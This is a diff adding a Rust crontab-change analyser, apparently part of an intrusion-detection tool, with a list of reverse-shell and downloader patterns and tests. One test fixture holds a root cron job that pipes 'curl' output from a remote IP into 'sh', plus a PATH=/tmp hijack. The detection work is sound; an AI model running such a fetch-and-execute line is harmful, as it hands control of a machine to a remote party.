@@ -0,0 +1,120 @@
+// /etc/crontab, /etc/cron.d/* and per-user crontabs
+use super::{Finding, Severity};
+use std::collections::BTreeSet;
+
+/// Command fragments typical of downloaders, reverse shells and persistence.
+const SUSPICIOUS: &[&str] = &[
+    "curl ",
+    "wget ",
+    "nc ",
+    "ncat ",
+    "socat ",
+    "/dev/tcp/",
+    "bash -i",
+    "sh -i",
+    "base64 -d",
+    "python -c",
+    "python3 -c",
+    "perl -e",
+    "chmod +s",
+    "/tmp/",
+    "/dev/shm/",
+];
+
+/// Variables that change what every job runs.
+const HIJACKING_VARIABLES: &[&str] =
+    &["PATH", "SHELL", "BASH_ENV", "LD_PRELOAD", "LD_LIBRARY_PATH"];
+
+fn variable(entry: &str) -> Option<&str> {
+    let (name, _) = entry.split_once('=')?;
+    let name = name.trim();
+    (!name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
+        .then_some(name)
+}
+
+/// The user a job runs as: `user` for a user crontab, otherwise the field after
+/// the schedule.
+fn runs_as<'a>(entry: &'a str, user: Option<&'a str>) -> Option<&'a str> {
+    if user.is_some() {
+        return user;
+    }
+    let fields: Vec<_> = entry.split_whitespace().collect();
+    let schedule = if entry.starts_with('@') { 1 } else { 5 };
+    fields.get(schedule).copied()
+}
+
+fn added(entry: &str, user: Option<&str>) -> Finding {
+    if let Some(name) = variable(entry) {
+        let severity = if HIJACKING_VARIABLES.contains(&name) {
+            Severity::Warning
+        } else {
+            Severity::Info
+        };
+        return Finding::new(severity, format!("crontab sets {}", entry));
+    }
+    let severity = if SUSPICIOUS.iter().any(|s| entry.contains(s)) {
+        Severity::Critical
+    } else {
+        Severity::Warning
+    };
+    match runs_as(entry, user) {
+        Some(user) => Finding::new(severity, format!("cron job added for {}: {}", user, entry)),
+        None => Finding::new(severity, format!("cron job added: {}", entry)),
+    }
+}
+
+/// `user` is the owner of a per-user crontab; system crontabs name the user in
+/// each entry.
+pub fn analyze(old: &str, new: &str, user: Option<&str>) -> Vec<Finding> {
+    let entries = |text| -> BTreeSet<String> {
+        super::lines(text)
+            .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
+            .collect()
+    };
+    let (old, new) = (entries(old), entries(new));
+    let mut findings: Vec<_> = new.difference(&old).map(|e| added(e, user)).collect();
+    findings.extend(
+        old.difference(&new)
+            .map(|e| Finding::new(Severity::Info, format!("cron entry removed: {}", e))),
+    );
+    findings
+}
+
+#[cfg(test)]
+mod tests {
+    use super::analyze;
+    use crate::integrity::semantic::Severity;
+
+    #[test]
+    fn system_crontab_entries() {
+        let old = "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n";
+        let new = "SHELL=/bin/sh\nPATH=/tmp:/usr/bin\n\
+                   17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
+                   */5 * * * * root curl -s http://203.0.113.7/x | sh\n";
+        let found: Vec<_> = analyze(old, new, None)
+            .into_iter()
+            .map(|f| (f.severity, f.message))
+            .collect();
+        assert_eq!(
+            found,
+            [
+                (
+                    Severity::Critical,
+                    "cron job added for root: */5 * * * * root curl -s http://203.0.113.7/x | sh"
+                        .into()
+                ),
+                (Severity::Warning, "crontab sets PATH=/tmp:/usr/bin".into()),
+            ]
+        );
+    }
+
+    #[test]
+    fn user_crontab_entries() {
+        let found = analyze("", "@reboot /home/www/.cache/upd\n", Some("www-data"));
+        assert_eq!(found[0].severity, Severity::Warning);
+        assert_eq!(
+            found[0].message,
+            "cron job added for www-data: @reboot /home/www/.cache/upd"
+        );
+    }
+}